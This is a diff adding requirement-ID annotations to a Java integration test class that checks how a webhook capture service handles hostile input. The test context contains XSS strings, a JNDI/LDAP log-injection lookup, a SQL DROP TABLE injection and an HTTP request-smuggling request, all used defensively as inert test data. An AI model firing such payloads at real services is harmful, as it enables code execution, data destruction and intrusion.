@@ -15,6 +15,7 @@ import dev.hookwell.capture.Body;
 import dev.hookwell.capture.Environment;
 import dev.hookwell.capture.HookId;
 import dev.hookwell.capture.HookKeys;
+import dev.hookwell.capture.Shows;
 import dev.hookwell.local.Client;
 import dev.hookwell.local.DataFolder;
 import dev.hookwell.local.Deadline;
@@ -107,6 +108,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows({"H02", "H16"})
   void h02ToH04AndH16OddJsonIsKept() {
     List<Recorded> recorded =
         witness.record(
@@ -125,6 +127,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H13")
   void h11To13LimitsAreInBytesAndNotInCharacters() {
     int limit = 4 * 1024 * 1024;
     Recorded most = witness.post("text/plain", utf8("\u20ac".repeat(limit / 3) + "x"));
@@ -141,11 +144,13 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H14")
   void h14DeepNestingIsKept() {
     witness.post("application/json", utf8("[".repeat(20_000) + "]".repeat(20_000)));
   }
 
   @ConcurrentTest
+  @Shows("H19")
   void h19AndH22MarkupAndEntitiesAreKeptAndNotParsed() {
     List<Recorded> recorded =
         witness.record(
@@ -172,6 +177,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H23")
   void h23AndH24OddHeadersAreKeptOrRefused() {
     StringBuilder many = new StringBuilder("X-Markup: <img src=x onerror=alert(1)>\n");
     many.append("X!#$%&'*+-.^_`|~: ").append(CANARY).append('\n');
@@ -190,6 +196,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows({"H25", "S10"})
   void h25HeadsAreMeasuredToTheByte() {
     Client.Hook hook = witness.hook();
     String head = "GET /h/" + hook.id() + " HTTP/1.1\r\nHost: a\r\nX-Pad: ";
@@ -202,6 +209,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H27")
   void h27AndH28CookiesAndCredentialsAreKeptForTheReader() {
     Recorded recorded =
         witness.record(
@@ -212,6 +220,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H29")
   void h29QueryThatCannotBeDecodedIsKept() {
     String query = "a=1&a=2&%zz&b=%00&=&c&%ff=%C0%AF&" + CANARY;
     assertEquals(
@@ -219,6 +228,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H31")
   void h31PathsReachNoOtherRoute() {
     List<Recorded> recorded =
         witness.record(
@@ -253,6 +263,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows({"H33", "S18"})
   void h33AndH35PathsThatLookLikeFilesAreNeverCachedAndNeverPages() {
     Client.Hook hook = witness.hook();
     for (String tail : List.of("/x.js", "/x.js", "/x.png", "/x.pdf", "/index.html")) {
@@ -269,6 +280,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H37")
   void h37IdsThatAreNoneAreAnsweredByTheirFormAlone() {
     String id = witness.hook().id();
     assertOneAnswer(
@@ -294,11 +306,13 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H37")
   void h37AddressThatIsNearlyAHooksIsToldWhy() {
     NearMisses.assertTold(witness);
   }
 
   @ConcurrentTest
+  @Shows({"H39", "S36"})
   void h39BlockedHookIs410AndWhatADeletedOneStillGetsIsDroppedAndCounted() throws Exception {
     Answer refused = witness.exchange("POST /h/" + blocked + " HTTP/1.1\nHost: a\n\n");
     assertEquals(410, refused.status());
@@ -319,6 +333,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H40")
   void h40ReaderKeyIsNoHookAndIsNotLogged() {
     Client.Hook hook = witness.hook();
     for (String key : List.of(hook.viewKey(), hook.ownerKey())) {
@@ -330,6 +345,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H41")
   void h41AboveTheQuotaTheOldestAreEvictedAndCounted() throws Exception {
     Client.Hook full = witness.hook();
     Client.Hook other = witness.hook();
@@ -363,6 +379,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H46")
   void h46LinksNeverComeFromTheHostHeader() {
     Answer created =
         witness.exchange(
@@ -372,6 +389,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H47")
   void h47OddContentTypesAreKept() {
     List<String> types =
         List.of("", "x/" + "y".repeat(1024), "text/html;charset=<script>", ";;;=", CANARY);
@@ -394,6 +412,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H48")
   void h48AmbiguousLengthsAreRefusedAndSmuggleNothing() {
     Client.Hook hook = witness.hook();
     String smuggled = "GET /h/" + hook.id() + "/smuggled HTTP/1.1\nHost: a\n\n";
@@ -414,6 +433,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H49")
   void h49ConditionsRangesAndUpgradesChangeNothing() {
     List<Recorded> recorded =
         witness.record(
@@ -433,6 +453,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H51")
   void h51WhatLooksLikeALogLineIsKeptAsContent() {
     String injection = "%0A{\"level\":\"ERROR\"}%1B[2J%25n%25s${jndi:ldap://x/" + CANARY + "}{}{}";
     String header = "\u009b2J{}{}%n%s${jndi:ldap://x}" + CANARY;
@@ -451,6 +472,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H52")
   void h52SqlIsContentLikeAnyOther() {
     String sql = "'; DROP TABLE captures;--";
     Recorded recorded =
@@ -466,6 +488,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("H54")
   void h54OneLongLineAndAMillionLinesAreKept() {
     witness.record(
         List.of(
@@ -473,6 +496,7 @@ final class HostileInputIT {
   }
 
   @ConcurrentTest
+  @Shows("S29")
   void canariesInWhatIsRefusedAreNotLoggedEither() {
     for (String wire :
         List.of(
